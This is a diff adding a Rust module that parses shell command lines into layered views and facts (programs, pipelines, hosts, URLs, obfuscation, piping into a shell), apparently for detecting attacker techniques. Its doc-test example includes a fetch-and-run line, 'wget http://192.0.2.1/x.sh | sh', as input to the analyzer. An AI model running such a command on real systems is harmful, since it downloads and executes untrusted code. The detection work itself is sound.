@@ -1,0 +1,142 @@
+// SPDX-License-Identifier: AGPL-3.0-or-later
+//! Views and their facts, and the order in which they are made.
+
+use bumpalo::Bump;
+use bumpalo::collections::Vec as ArenaVec;
+
+use super::facts::read;
+
+/// Views of one line; past them the line has no more.
+pub(super) const VIEWS_MAX: usize = 8;
+/// Bytes of one view's text; what is longer is read up to here.
+pub(super) const TEXT_MAX: usize = 64 << 10;
+/// Words and operators of one view; further ones are not read.
+pub(super) const TOKENS_MAX: usize = 4096;
+/// Scripts inside of scripts; deeper ones are not read.
+pub(super) const DEPTH_MAX: usize = 8;
+
+/// One way to read a line.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct View<'a> {
+    /// What it took to see it.
+    pub via: Via,
+    /// A shell line; that of the raw view is the line itself.
+    pub text: &'a str,
+    /// What the text does.
+    pub facts: Facts<'a>,
+}
+
+/// The layer that a view comes from.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Via {
+    /// The line as typed.
+    Raw,
+    /// Quotes, escapes and the like taken off.
+    Lexical,
+    /// Variables, the working directory and globs put in.
+    State,
+    /// What the line itself prints for a shell to run.
+    Computed,
+}
+
+impl Via {
+    /// The name that evidence has.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Via::Raw => "raw",
+            Via::Lexical => "lexical",
+            Via::State => "state",
+            Via::Computed => "computed",
+        }
+    }
+
+    /// What the confidence of a rule that matches such a view is multiplied by.
+    pub fn factor(self) -> f64 {
+        match self {
+            Via::Raw => 1.0,
+            Via::Lexical => 0.95,
+            Via::State => 0.85,
+            Via::Computed => 0.8,
+        }
+    }
+}
+
+/// How far [`views`] goes.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Layers {
+    /// The raw view alone.
+    Raw,
+    /// Every view that the line has.
+    All,
+}
+
+/// What a line does, by simple commands: those of the line and of the scripts inside of it
+/// (`$(…)`, `sh -c '…'`, `eval`, `find -exec`).
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub struct Facts<'a> {
+    /// Names of the programs: no folder, no wrapper.
+    pub argv0: &'a [&'a str],
+    /// The commands: program and words with one blank between, no redirection, on one line each.
+    pub simple: &'a [&'a str],
+    /// Pipelines of two or more commands, joined by ` | `.
+    pub pipelines: &'a [&'a str],
+    /// All words, wrappers and assignments too; no redirection.
+    pub words: &'a [&'a str],
+    /// The words after programs.
+    pub args: &'a [&'a str],
+    /// Words or parts of words that are paths, said in the shortest way; targets of redirections too.
+    pub paths: &'a [&'a str],
+    /// Words with a scheme, and what programs that fetch are told to fetch.
+    pub urls: &'a [&'a str],
+    /// Hosts of URLs, of `user@host`, of programs that talk to hosts, of `/dev/tcp/…`.
+    pub hosts: &'a [&'a str],
+    /// Files written by redirections, by `tee` and by `dd`.
+    pub writes: &'a [&'a str],
+    /// A shell or an interpreter runs what a command prints.
+    pub pipeline_to_shell: bool,
+    /// Two or more words are hidden by quotes or escapes that have no other use, or by `${IFS}`.
+    pub obfuscated: bool,
+    /// A shell runs decoded text.
+    pub decoded_to_shell: bool,
+}
+
+/// Reads a line and derives its views; everything is put into the arena.
+///
+/// There is at least one view. The first is raw, and its text is the line. Each further one differs in text
+/// or facts from all before it.
+///
+/// # Cost
+///
+/// Linear in the line, with bounds on what it can grow to: 8 views of 64 KiB, 4,096 tokens each.
+/// Nothing is allocated outside the arena. A line in which nothing hides costs its raw view only.
+///
+/// # Example
+///
+/// ```
+/// use bumpalo::Bump;
+/// use decnet_ttp::lift::shell::{Layers, views};
+///
+/// let arena = Bump::new();
+/// let views = views("sudo /usr/bin/wget http://192.0.2.1/x.sh | sh", Layers::Raw, &arena);
+/// assert_eq!(views[0].facts.argv0, ["wget", "sh"]);
+/// assert_eq!(views[0].facts.pipelines, ["wget http://192.0.2.1/x.sh | sh"]);
+/// assert!(views[0].facts.pipeline_to_shell);
+/// ```
+pub fn views<'a>(line: &'a str, layers: Layers, arena: &'a Bump) -> &'a [View<'a>] {
+    let mut views = ArenaVec::with_capacity_in(1, arena);
+    let raw = read(head(line), arena);
+    views.push(View { via: Via::Raw, text: line, facts: raw.facts });
+    if layers == Layers::Raw {
+        return views.into_bump_slice();
+    }
+    views.into_bump_slice()
+}
+
+/// The part of a text that is read.
+fn head(text: &str) -> &str {
+    let mut end = text.len().min(TEXT_MAX);
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    text.get(..end).unwrap_or(text)
+}
